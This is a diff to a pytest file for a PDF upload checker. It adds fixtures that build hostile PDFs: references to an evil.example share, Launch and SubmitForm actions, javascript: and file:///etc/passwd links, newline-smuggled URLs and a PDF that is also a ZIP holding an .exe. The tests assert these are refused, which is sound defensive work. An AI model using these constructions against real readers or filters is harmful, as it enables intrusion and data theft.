@@ -1,13 +1,15 @@
 """Plain PDFs pass; whatever runs, opens, hides or carries something else is refused, and so is what is not quite a PDF."""
 
 import io
+import struct
+import zipfile
 import zlib
 from collections.abc import Callable
 from typing import Any
 
 import pikepdf
 import pytest
-from pikepdf import Array, Dictionary, Name, Pdf, String
+from pikepdf import Array, Dictionary, Name, Pdf, Stream, String
 
 from hub.documents import MOST_BYTES, DocumentRefusedError, check_document
 
@@ -56,6 +58,49 @@ def dynamic_form(pdf: Pdf) -> None:
     pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp/>"))
 
 
+def content_elsewhere(pdf: Pdf) -> None:
+    pdf.Root.Kept = pdf.make_indirect(Stream(pdf, b"", F=String("//evil.example/share/x")))
+
+
+def page_of_another_file(pdf: Pdf) -> None:
+    elsewhere = Dictionary(F=String("//evil.example/share/x.pdf"), Page=0)
+    form = Stream(pdf, b"", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 1, 1]), Ref=elsewhere)
+    pdf.pages[0].Resources = Dictionary(XObject=Dictionary(A=pdf.make_indirect(form)))
+
+
+def page_of_another_file_apart(pdf: Pdf) -> None:
+    page_of_another_file(pdf)
+    form = pdf.pages[0].Resources.XObject.A
+    form.Ref = pdf.make_indirect(form.Ref)
+
+
+def name_of_another_file(pdf: Pdf) -> None:
+    pdf.Root.Kept = Dictionary(Type=Name.Filespec, F=String("//evil.example/share/x.pdf"))
+
+
+def structure_that_refers(pdf: Pdf) -> None:
+    note = pdf.make_indirect(Dictionary(Type=Name.StructElem, S=Name.FENote))
+    word = pdf.make_indirect(Dictionary(Type=Name.StructElem, S=Name.Span, Ref=Array([note])))
+    pdf.Root.StructTreeRoot = Dictionary(Type=Name.StructTreeRoot, K=Array([note, word]))
+
+
+def with_archive(behind: int) -> bytes:
+    """A good PDF that is a good ZIP too: the archive lies in a stream, the rest of the PDF is the comment at its end."""
+    room = b"x" * 2000
+    pdf = a_pdf(lambda pdf: pdf.Root.__setattr__("Kept", pdf.make_stream(room)), compress_streams=False)
+    start = pdf.index(room)
+    packed = io.BytesIO()
+    packed.write(pdf[:start])
+    with zipfile.ZipFile(packed, "a") as archive:
+        archive.writestr("other.exe", b"MZ" * 10)
+    made = bytearray(packed.getvalue())
+    made += pdf[len(made) :]
+    made = made.replace(b"\n%%EOF", b"\n" * behind + b"%%EOF")
+    end = made.index(b"PK\x05\x06") + 22
+    made[end - 2 : end] = struct.pack("<H", len(made) - end)
+    return bytes(made)
+
+
 def action_of_an_event(pdf: Pdf) -> None:
     pdf.pages[0].AA = Dictionary(O=Dictionary(S=Name.Named, N=Name.NextPage))
 
@@ -70,6 +115,8 @@ def action_of_an_event(pdf: Pdf) -> None:
         a_pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate),
         a_pdf(lambda pdf: pdf.Root.__setattr__("OpenAction", Array([pdf.pages[0].obj, Name.Fit]))),
         a_pdf() + b"\r\n",
+        a_pdf(structure_that_refers),
+        a_pdf(link("tel:+3292240000")),
     ],
 )
 def test_a_plain_document_is_taken_as_it_is(content: bytes) -> None:
@@ -83,12 +130,19 @@ def test_a_plain_document_is_taken_as_it_is(content: bytes) -> None:
         open_with(S=Name.Launch, F=String("calc.exe")),
         open_with(S=Name.SubmitForm, F=String("https://evil.example")),
         open_with(S=Name.GoToR, F=String("//evil.example/share")),
+        open_with(S=Name.Thread, F=String("//evil.example/share/x.pdf"), D=0),
         script_by_name,
+        content_elsewhere,
+        page_of_another_file,
+        page_of_another_file_apart,
+        name_of_another_file,
         attach,
         dynamic_form,
         action_of_an_event,
         link("javascript:alert(1)"),
         link("file:///etc/passwd"),
+        link("https://www.example/\njavascript:alert(1)"),
+        link("\r\nhttps://www.example/"),
     ],
 )
 @pytest.mark.parametrize("packed", [False, True])
@@ -117,6 +171,21 @@ def test_a_locked_document_is_refused() -> None:
 )
 def test_what_is_not_wholly_a_pdf_is_refused(content: bytes) -> None:
     assert refusal(content) == "unreadable"
+
+
+@pytest.mark.parametrize("behind", [1, 60_000])
+def test_a_document_that_is_an_archive_too_is_refused(behind: int) -> None:
+    both = with_archive(behind)
+    assert zipfile.ZipFile(io.BytesIO(both)).namelist() == ["other.exe"]
+    assert pikepdf.open(io.BytesIO(both)).pages
+    assert refusal(both) == "unreadable"
+
+
+@pytest.mark.parametrize("mark", [b"Rar!\x1a\x07\x01\x00", b"7z\xbc\xaf\x27\x1c\x00\x04"])
+def test_a_document_with_the_mark_of_an_archive_is_refused(mark: bytes) -> None:
+    both = a_pdf(lambda pdf: pdf.Root.__setattr__("Kept", pdf.make_stream(mark)), compress_streams=False)
+    assert mark in both
+    assert refusal(both) == "unreadable"
 
 
 def test_a_document_that_is_too_long_is_refused() -> None:
